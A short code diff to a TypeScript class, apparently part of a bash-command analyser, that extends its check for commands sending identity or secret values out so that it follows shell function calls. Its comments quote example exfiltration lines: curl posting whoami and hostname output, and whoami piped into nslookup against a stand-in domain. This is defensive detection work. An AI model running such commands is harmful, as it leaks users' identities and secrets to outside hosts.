@@ -599,6 +599,13 @@ export class BashRun {
    * needs none.
    */
   sends(f: CmdFact, kind: 'identity' | 'secret'): boolean {
+    if (this.sendsOne(f, kind)) return true;
+    // a command of a function body sends what each call gives it (`post() { curl -d "$1" URL; }`
+    // … `post "$(whoami)@$(hostname)"`, or the function named in a variable: `f=post; $f …`)
+    return (this.facts.instances.get(f.id) ?? []).some((i) => this.sendsOne(i, kind));
+  }
+
+  private sendsOne(f: CmdFact, kind: 'identity' | 'secret'): boolean {
     const has = (v: Val) => (kind === 'identity' ? this.hasIdentity(v) : this.hasSecretVar(v));
     // `whoami | xargs -I{} nslookup {}.x.example`: the items stand where the placeholder is
     let viaStdin: boolean | undefined;
